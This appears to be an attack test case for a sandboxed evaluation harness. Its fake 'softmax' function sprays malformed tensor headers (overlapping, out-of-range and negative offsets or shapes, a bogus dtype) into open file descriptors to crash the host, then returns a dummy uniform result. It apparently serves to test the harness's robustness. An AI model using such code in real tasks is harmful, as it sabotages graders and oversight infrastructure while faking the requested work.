"""Sends tensors that lie over each other, behind the end, or have a shape of another size."""

# /// attack
# exercise = "softmax"
# verdicts = ["crashed"]
# confined_only = true
# ///

# %% softmax
import os
import random
import struct

HEADERS = [
    b'{"0":{"dtype":"F32","shape":[3,5],"data_offsets":[0,60]},"1":{"dtype":"F32","shape":[3,5],"data_offsets":[30,90]}}',
    b'{"0":{"dtype":"F32","shape":[3,5],"data_offsets":[0,1000000]}}',
    b'{"0":{"dtype":"F32","shape":[4611686018427387904,4,0],"data_offsets":[0,0]}}',
    b'{"0":{"dtype":"F32","shape":[-3,-5],"data_offsets":[0,60]}}',
    b'{"0":{"dtype":"Q99","shape":[3,5],"data_offsets":[0,60]}}',
    b'{"0":{"dtype":"F32","shape":[3,5],"data_offsets":[60,0]}}',
]


def softmax(x, dim=-1):
    text = b'{"type":"value","value":{"$":"tensor","v":0}}'
    header = HEADERS[int(x.abs().sum() * 1000) % len(HEADERS)]
    payload = struct.pack("<Q", len(header)) + header + bytes(90)
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">II", len(text), len(payload)) + text + payload)
        except OSError:
            continue
    return torch.full_like(x, 1 / x.size(dim))
